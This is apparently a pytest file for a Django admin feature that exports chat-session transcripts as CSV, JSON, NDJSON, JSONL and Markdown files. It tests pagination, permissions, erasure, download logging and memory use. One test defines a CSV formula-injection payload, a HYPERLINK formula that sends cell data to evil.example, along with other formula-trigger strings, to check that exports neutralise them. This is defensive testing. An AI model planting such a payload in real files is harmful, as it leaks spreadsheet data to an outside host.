"""Sessions as files: one, or all that a filtered list shows."""

import csv
import io
import json
import tracemalloc
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from sessions_app.admin import exporting
from sessions_app.desk import acts
from sessions_app.desk.acts import Reviewer
from sessions_app.log import events as ev
from sessions_app.models import EraseActor, Session, SessionStatus, TranscriptOpening
from sessions_app.privacy.erase import By, erase_session
from sessions_app.review.forms import FIELDS, FORMS
from tests.admin.rows import NOON, call, done, message, result, started, turn, user_says, write_session

pytestmark = pytest.mark.django_db(transaction=True)

LIST = "/admin/sessions_app/session/"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def one(client: Client, session: Session, form: str) -> str:
    response = client.get(f"{LIST}{session.pk}/transcript.{form}")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{session.pk}.{form}"'
    return b"".join(response).decode("utf-8-sig" if form == "csv" else "utf-8")


def many(client: Client, form: str, query: str = "") -> str:
    response = client.get(f"{LIST}export/", {"form": form, "list": query})
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="conversations.{form}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    return b"".join(response).decode("utf-8-sig" if form == "csv" else "utf-8")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def sessions(number: int, **fields: Any) -> None:
    for n in range(number):
        write_session(turn(n), session_id=f"s{n:03}", at=NOON - timedelta(minutes=n // 3), **fields)


def test_ndjson_is_a_line_for_the_session_and_for_each_event(viewer: Client) -> None:
    lines = [
        json.loads(line) for line in one(viewer, write_session(turn(1), title="T"), "ndjson").splitlines()
    ]
    assert [line["type"] for line in lines] == ["session"] + ["event"] * 6
    assert (lines[0]["title"], lines[1]["content"]) == ("T", "question 1 ")


def test_what_the_desk_knows_is_in_it_by_one_query_for_many(viewer: Client) -> None:
    sessions(3)
    rita = User.objects.create(username="rita", is_superuser=True, is_staff=True)
    by = Reviewer(rita.pk, "rita")
    for name in ("refund", "angry"):
        acts.add_tag(session_id="s001", name=name, by=by)
    for text in ("One", "Two"):
        acts.write_note(session_id="s001", text=text, by=by)
    acts.give_score(session_id="s001", score=2, reason="It guessed", by=by)
    acts.assign(session_id="s001", assignee_id=rita.pk, by=by)
    Session.objects.filter(pk="s001").update(review_state="flagged")
    told = {
        "review_state": "flagged",
        "score": 2,
        "score_reason": "It guessed",
        "tags": ["angry", "refund"],
        "assignee": "rita",
        "notes": 2,
        "notes_text": "rita: One\n\nrita: Two",
    }
    none: dict[str, Any] = {
        "review_state": "new",
        "score": None,
        "score_reason": "",
        "tags": [],
        "assignee": "",
        "notes": 0,
        "notes_text": "",
    }
    heads = {one["session"]["session_id"]: one["session"] for one in json.loads(many(viewer, "json"))}
    assert {name: heads["s001"][name] for name in told} == told
    assert {name: heads["s000"][name] for name in told} == none
    line = json.loads(one(viewer, Session.objects.get(pk="s001"), "ndjson").splitlines()[0])
    assert {name: line[name] for name in told} == told
    row = next(row for row in rows_of(many(viewer, "csv")) if row["session_id"] == "s001")
    words = ["flagged", "2", "It guessed", "angry, refund", "rita", "2", "rita: One\n\nrita: Two"]
    assert [row[name] for name in told] == words
    with CaptureQueriesContext(connection) as queries:
        many(viewer, "csv")
    assert sum("session_tags" in query["sql"] for query in queries) == 1


def test_csv_names_people_as_the_list_does_and_tells_dollars(viewer: Client) -> None:
    shop = User.objects.create(username="shop")
    given: dict[str, dict[str, Any]] = {
        "guest": {"guest_id": "c0ffee5599aa", "cost_microusd": 1_234_500},
        "theirs": {"user": shop, "external_user_id": "=ada", "cost_microusd": 31},
        "own": {"user": shop, "unpriced": 0},
        "unknown": {"user": shop, "unpriced": 2},
        "partly": {"user": shop, "cost_microusd": 1_000_000, "unpriced": 1},
    }
    for name, fields in given.items():
        write_session(turn(1), session_id=name, **fields)
    rows = {row["session_id"]: row for row in rows_of(many(viewer, "csv"))}
    told = ("who", "cost_usd", "cost_microusd", "unpriced")
    assert {session_id: tuple(row[name] for name in told) for session_id, row in rows.items()} == {
        "guest": ("Guest c0ffee55", "1.2345", "1234500", "1"),
        "theirs": ("'=ada of shop", "0.000031", "31", "1"),
        "own": ("shop", "0.0", "0", "0"),
        "unknown": ("shop", "", "0", "2"),
        "partly": ("shop", "1.0", "1000000", "1"),
    }


@pytest.mark.parametrize("form", FORMS)
def test_a_csv_tells_a_spreadsheet_its_letters_and_no_other_file_does(viewer: Client, form: str) -> None:
    session = write_session([user_says("Rückgabe, 返金")], title="Rückgabe")
    mark = b"\xef\xbb\xbf" if form == "csv" else b""
    for address in (f"{LIST}export/?form={form}", f"{LIST}{session.pk}/transcript.{form}"):
        body = b"".join(viewer.get(address))
        assert body.count(b"\xef\xbb\xbf") == len(mark) / 3
        assert body.startswith(mark)
        assert "Rückgabe" in body.decode()


def test_csv_of_a_session_is_its_events(viewer: Client) -> None:
    rows = rows_of(one(viewer, write_session(turn(1)), "csv"))
    assert [row["event_type"] for row in rows][:2] == ["user_message", "response_started"]
    assert rows[0]["content"] == "question 1 "


def test_a_chat_is_as_openai_takes_it(viewer: Client) -> None:
    session = write_session(
        [
            ev.OperatorMessage(item_id="o", text="Be brief.", author="ann"),
            user_says("What time?"),
            started(),
            call(),
            call("call_2"),
            result(),
            message("It is 21:14."),
            done(),
            user_says("And now?", "item_u2"),
            ev.ItemDeleted(item_id="item_u2"),
            started("resp_2"),
            message("Half", "resp_2", "item_b", "incomplete"),
            done("resp_2", status="incomplete"),
            ev.ResponseStarted(response_id="resp_3", provider="demo", model="demo", retry_of="resp_2"),
            message("Whole", "resp_3", "item_c"),
            done("resp_3"),
        ],
        outcome="resolved",
        quality=4,
    )
    (line,) = one(viewer, session, "jsonl").splitlines()
    chat = json.loads(line)
    call_of = {
        "id": "call_1",
        "type": "function",
        "function": {"name": "get_time", "arguments": '{"zone": "Asia/Tokyo"}'},
    }
    assert chat["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What time?"},
        {"role": "assistant", "content": None, "tool_calls": [call_of]},
        {"role": "tool", "tool_call_id": "call_1", "content": '{"time": "21:14"}'},
        {"role": "assistant", "content": "It is 21:14."},
        {"role": "assistant", "content": "Whole"},
    ]
    assert chat["metadata"] == {
        "session_id": session.pk,
        "model": "",
        "outcome": "resolved",
        "sentiment": "",
        "quality": "4",
        "feedback_up": "0",
        "feedback_down": "0",
    }


def ids_in(form: str, text: str) -> list[str]:
    """Of the sessions in a file, in their order."""
    match form:
        case "md":
            return [line.split()[-1] for line in text.splitlines() if line.startswith("- Session: ")]
        case "json":
            return [part["session"]["session_id"] for part in json.loads(text)]
        case "ndjson":
            lines = map(json.loads, text.splitlines())
            return [line["session_id"] for line in lines if line["type"] == "session"]
        case "csv":
            return [row["session_id"] for row in rows_of(text)]
        case _:
            return [json.loads(line)["metadata"]["session_id"] for line in text.splitlines()]


@pytest.mark.parametrize("form", FORMS)
def test_a_list_comes_whole_and_newest_first_over_its_pages(
    viewer: Client, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    monkeypatch.setattr(exporting, "PAGE", 4)
    sessions(11)
    text = many(viewer, form)
    ids = [line.pk for line in Session.objects.order_by("-start_time", "-session_id")]
    assert ids_in(form, text) == ids


@pytest.mark.parametrize("form", FORMS)
def test_a_list_of_none_is_a_file_of_none(viewer: Client, form: str) -> None:
    text = many(viewer, form)
    assert {"json": "[]\n", "csv": ",".join(FIELDS) + "\r\n"}.get(form, "") == text


def test_the_filter_and_the_search_of_the_list_are_kept(viewer: Client) -> None:
    sessions(4)
    Session.objects.filter(pk="s001").update(feedback_down=1)
    Session.objects.filter(pk="s002").update(title="About lamps")
    assert [row["session_id"] for row in rows_of(many(viewer, "csv", "feedback=bad"))] == ["s001"]
    assert [row["session_id"] for row in rows_of(many(viewer, "csv", "q=lamps"))] == ["s002"]
    html = viewer.get(f"{LIST}?feedback=bad").content.decode()
    assert '<input type="hidden" name="list" value="feedback=bad">' in html


@pytest.mark.parametrize(
    "words",
    [ATTACK, "+1", "-1+1", "@SUM(A1)", " =1+1", "\t=1", "\r=1", "\uff1d1+1", "\n=1", "|calc", "%0A=1"],
)
def test_nothing_in_a_csv_is_a_formula(viewer: Client, words: str) -> None:
    session = write_session([user_says(words)], title=words, topics=[words], external_user_id=words)
    for row in [*rows_of(many(viewer, "csv")), *rows_of(one(viewer, session, "csv"))]:
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "|", "%")), cell
    (listed,) = rows_of(many(viewer, "csv"))
    assert listed["title"] == f"'{words}".replace("\r\n", "\n")


def test_figures_and_plain_words_stay_as_they_are(viewer: Client) -> None:
    write_session([user_says("Hi")], title="Plain", topics=["a", "b"], quality=4, duration_seconds=-1.5)
    (row,) = rows_of(many(viewer, "csv"))
    assert (row["title"], row["topics"], row["quality"], row["duration_seconds"]) == (
        "Plain",
        "a, b",
        "4",
        "-1.5",
    )


def test_each_session_is_written_down_as_downloaded_once(viewer: Client) -> None:
    sessions(3)
    for _ in range(2):
        many(viewer, "ndjson")
    records = TranscriptOpening.objects.order_by("session_id")
    assert [(record.session_id, record.staff_name, record.view) for record in records] == [
        (f"s{n:03}", "viewer", "download") for n in range(3)
    ]


def test_who_may_not_read_gets_nothing(nobody: Client) -> None:
    sessions(2)
    assert nobody.get(f"{LIST}export/", {"form": "csv"}).status_code == 403
    assert Client().get(f"{LIST}export/", {"form": "csv"}).status_code == 302
    assert not TranscriptOpening.objects.exists()


def test_a_form_that_there_is_none_of(viewer: Client) -> None:
    session = write_session()
    assert viewer.get(f"{LIST}export/", {"form": "xlsx"}).status_code == 404
    assert viewer.get(f"{LIST}{session.pk}/transcript.xlsx").status_code == 404
    assert viewer.post(f"{LIST}export/", {"form": "csv"}).status_code == 403


def test_of_an_erased_session_no_word_comes(viewer: Client) -> None:
    sessions(1, status=SessionStatus.ENDED, title="Secret title")
    erase_session(session_id="s000", by=By(actor=EraseActor.STAFF))
    for form in FORMS:
        text = many(viewer, form)
        assert "question" not in text
        assert "Secret" not in text


def test_the_queries_of_a_page_are_few_and_memory_does_not_grow_with_the_list(viewer: Client) -> None:
    User.objects.create(username="ada")
    rows = [
        Session(
            session_id=f"s{n:05}", start_time=NOON - timedelta(seconds=n), title="t" * 150, first_words="Hi"
        )
        for n in range(2_000)
    ]
    for start in range(0, len(rows), 250):
        Session.objects.bulk_create(rows[start : start + 250])
    del rows
    many(viewer, "csv", "feedback=bad")
    with CaptureQueriesContext(connection) as queries:
        tracemalloc.start()
        try:
            response = viewer.get(f"{LIST}export/", {"form": "csv", "list": ""})
            length = sum(map(len, response))
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert length > 400_000
    assert peak < 2_500_000
    assert len(queries) < 2_000 / exporting.PAGE * 6 + 20


def test_a_whisper_that_was_taken_back_is_in_no_chat(viewer: Client) -> None:
    """No model was told it."""
    session = write_session(
        [
            user_says("What time?"),
            ev.OperatorWhispered(item_id="item_w1", text="Be brief.", author="ann"),
            ev.OperatorWhispered(item_id="item_w2", text="Offer a refund.", author="ann"),
            ev.WhisperWithdrawn(item_id="item_w2", author="ann"),
            started(),
            message("21:14."),
            done(),
        ]
    )
    (line,) = one(viewer, session, "jsonl").splitlines()
    told = [message["content"] for message in json.loads(line)["messages"]]
    assert told == ["What time?", "Be brief.", "21:14."]


def test_what_was_taken_back_long_after_is_in_no_chat(viewer: Client) -> None:
    """A log is read in pages; what a later one takes back stands in an earlier one."""
    again = ev.ResponseStarted(response_id="resp_b", provider="demo", model="demo", retry_of="resp_a")
    session = write_session(
        [
            user_says("My number is 4711.", "item_secret"),
            ev.OperatorWhispered(item_id="item_w", text="Offer a refund.", author="ann"),
            started("resp_a"),
            message("Half", "resp_a", "item_half", "incomplete"),
            done("resp_a", "incomplete"),
            *(event for number in range(100) for event in turn(number)),
            ev.ItemDeleted(item_id="item_secret"),
            ev.WhisperWithdrawn(item_id="item_w", author="ann"),
            again,
            message("Whole", "resp_b", "item_whole"),
            done("resp_b"),
            user_says("Given the same id.", "item_secret"),
        ]
    )
    (line,) = one(viewer, session, "jsonl").splitlines()
    told = [message["content"] for message in json.loads(line)["messages"]]
    assert told[0] == "question 0 "
    assert told[-2:] == ["Whole", "Given the same id."]
